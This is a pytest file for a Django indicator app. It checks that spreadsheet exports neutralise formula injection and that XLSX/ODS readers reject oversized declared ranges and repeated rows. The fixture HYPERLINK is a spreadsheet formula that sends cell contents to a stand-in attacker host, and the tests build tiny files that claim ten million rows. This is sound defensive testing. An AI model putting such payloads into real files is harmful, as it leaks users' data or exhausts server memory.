"""Spreadsheets people download and upload cannot be turned against them or against the server.

- A comment typed as a formula (``=HYPERLINK(…)``) is exported and put in templates as text, never as a
  formula; in CSV it is neutralised with an apostrophe. Numbers, negative ones included, stay numbers.
- A small file cannot make the reader build millions of empty rows: row and column numbers, declared
  ranges and ODS repetitions are bounded, and a file past the bounds is refused with a located message.
"""

import csv
import io
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.indicators.test_spreadsheets import confirm, download, text, upload
from vigie.indicators import sheetio, spreadsheets
from vigie.indicators.models import IndicatorValue

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


def _submit_value(client, world, value, comment):
    client.force_login(world.users.prefecture)
    row = [world.dept_indicator.pk, "1.1", "x", "Nombre", "32", "Gers", "2025", value, comment]
    response = upload(client, world, "f.ods", spreadsheets.build_ods(world.campaign, [row]))
    assert confirm(client, world, response).status_code == 302
    stored = IndicatorValue.objects.get()
    assert (stored.value, stored.comment) == (Decimal(value), comment)
    return stored


def _xlsx_xml(data: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return "".join(
        archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/")
    )


def _ods_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()


# ---------------------------------------------------------------- formula injection


def test_exports_write_a_formula_like_comment_as_text(world, client):
    _submit_value(client, world, -3, HYPERLINK)
    url = reverse("indicators:export", args=[world.plan.pk, "xlsx"])
    data = client.get(url).content
    assert "<f>" not in _xlsx_xml(data) and "<f " not in _xlsx_xml(data)
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    assert row[12].value == HYPERLINK and row[12].data_type == "s"
    assert row[10].value == -3 and row[10].data_type == "n"  # a negative number is a number

    data = client.get(reverse("indicators:export", args=[world.plan.pk, "ods"])).content
    assert "table:formula" not in _ods_xml(data)
    _, rows = spreadsheets.read_ods(data)
    assert rows[1][12] == HYPERLINK and rows[1][10] == -3

    data = client.get(reverse("indicators:export", args=[world.plan.pk, "csv"])).content
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][12] == "'" + HYPERLINK
    assert rows[1][10] == "-3"


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_template_keeps_a_formula_like_comment_as_text_and_reads_it_back(world, client, fmt):
    stored = _submit_value(client, world, -3, HYPERLINK)
    data = download(client, world, fmt)
    if fmt == "xlsx":
        assert "<f>" not in _xlsx_xml(data) and "<f " not in _xlsx_xml(data)
        sheet = load_workbook(io.BytesIO(data))["Valeurs"]
        cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == stored.indicator_id)
        assert cells[8].value == HYPERLINK and cells[8].data_type == "s"
        assert cells[7].value == -3 and cells[7].data_type == "n"
    else:
        assert "table:formula" not in _ods_xml(data)
    # The downloaded template, uploaded again unchanged, reads back the same value and comment.
    _, rows = spreadsheets.read_upload(f"modele.{fmt}", data)
    row = next(r for r in rows[1:] if r and r[0] == stored.indicator_id)
    assert (row[7], row[8]) == (-3, HYPERLINK)
    response = upload(client, world, f"modele.{fmt}", data)
    assert "vérifié : aucune erreur" in text(response)
    confirm(client, world, response)
    stored.refresh_from_db()
    assert (stored.value, stored.comment) == (Decimal("-3"), HYPERLINK)


# ---------------------------------------------------------------- bounds of the readers


def _xlsx(sheet_data: str, dimension: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="Valeurs" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{package}"><Relationship Id="rId1" '
            f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{main}">{dimension}<sheetData>{sheet_data}</sheetData></worksheet>',
        )
    return buffer.getvalue()


def _ods(rows_xml: str) -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        f'<office:spreadsheet><table:table table:name="Valeurs">{rows_xml}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("content.xml", content)
    return buffer.getvalue()


def _ods_row(*values, repeat: int = 1) -> str:
    cells = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
        for v in values
    )
    return f'<table:table-row table:number-rows-repeated="{repeat}">{cells}</table:table-row>'


_EMPTY_ROWS = (
    '<table:table-row table:number-rows-repeated="{}">'
    '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
)


def _refused(name: str, data: bytes) -> str:
    """The reader's refusal, checking that it never built the empty rows the file claims (memory)."""
    tracemalloc.start()
    try:
        with pytest.raises(sheetio.UnreadableFile) as refusal:
            spreadsheets.read_upload(name, data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024  # 10 million empty rows would take 80 MB
    return str(refusal.value)


def test_xlsx_row_number_past_the_last_row_is_refused():
    data = _xlsx('<row r="10000000"><c r="A10000000" t="inlineStr"><is><t>x</t></is></c></row>')
    assert len(data) < 1024
    assert _refused("f.xlsx", data) == (
        "Feuille « Valeurs », ligne 10\u00a0000\u00a0000 : ligne au-delà de la dernière ligne "
        "d'une feuille (1\u00a0048\u00a0576)."
    )


def test_xlsx_declared_range_past_the_bounds_is_refused():
    data = _xlsx('<row r="1"><c r="A1"><v>1</v></c></row>', '<dimension ref="A1:J2000000000"/>')
    assert _refused("f.xlsx", data) == (
        "Feuille « Valeurs » : la zone déclarée (A1:J2000000000) dépasse la taille maximale "
        "d'une feuille (1\u00a0048\u00a0576 lignes, 16\u00a0384 colonnes)."
    )


def test_xlsx_column_past_the_last_column_is_refused():
    data = _xlsx('<row r="1"><c r="XFE1"><v>1</v></c></row>')
    assert _refused("f.xlsx", data) == (
        "Feuille « Valeurs », cellule XFE1 : colonne au-delà de la dernière colonne d'une "
        "feuille (XFD)."
    )


def test_xlsx_last_row_of_a_sheet_is_still_read():
    data = _xlsx(
        '<row r="1048576"><c r="B1048576"><v>7</v></c></row>', '<dimension ref="B1048576"/>'
    )
    _, rows = spreadsheets.read_upload("f.xlsx", data)
    assert len(rows) == 1_048_576 and rows[-1] == (None, 7) and rows[0] == ()


def test_ods_row_repeated_past_the_last_row_is_refused():
    data = _ods(_ods_row("Identifiant indicateur") + _EMPTY_ROWS.format(10_000_000) + _ods_row("1"))
    assert len(data) < 1024
    assert _refused("f.ods", data) == (
        "Feuille « Valeurs », ligne 10\u00a0000\u00a0002 : ligne au-delà de la dernière ligne "
        "d'une feuille (1\u00a0048\u00a0576)."
    )


def test_ods_row_with_content_repeated_too_often_is_refused():
    data = _ods(_ods_row("Identifiant indicateur") + _ods_row("1", repeat=5000))
    assert _refused("f.ods", data) == (
        "Feuille « Valeurs », ligne 2 : ligne répétée 5\u00a0000 fois (au plus 1\u00a0000 "
        "répétitions d'une ligne non vide)."
    )


def test_ods_cell_repeated_past_the_last_column_is_refused():
    cell = (
        '<table:table-cell office:value-type="string" table:number-columns-repeated="20000">'
        "<text:p>x</text:p></table:table-cell>"
    )
    data = _ods(f"<table:table-row>{cell}</table:table-row>")
    assert _refused("f.ods", data) == (
        "Feuille « Valeurs », ligne 1, colonne A : cellule répétée 20\u00a0000 fois, au-delà de "
        "la dernière colonne d'une feuille (XFD)."
    )


def test_ods_empty_rows_keep_row_numbers_and_trailing_ones_are_not_built(world, client):
    # LibreOffice writes blank lines as one repeated row, and ends a sheet with a million of them.
    client.force_login(world.users.prefecture)
    header = _ods_row("Identifiant indicateur", "Code territoire", "Période", "Valeur")
    data = _ods(
        header
        + _EMPTY_ROWS.format(3)
        + _ods_row(str(world.dept_indicator.pk), "32", "2025", "abc")
        + _EMPTY_ROWS.format(1_048_571)
    )
    _, rows = spreadsheets.read_upload("f.ods", data)
    assert len(rows) == 5 and rows[1:4] == [(), (), ()]
    content = text(upload(client, world, "f.ods", data))
    assert (
        "Feuille « Valeurs », ligne 5, colonne D (Valeur) : « abc » n'est pas un nombre." in content
    )
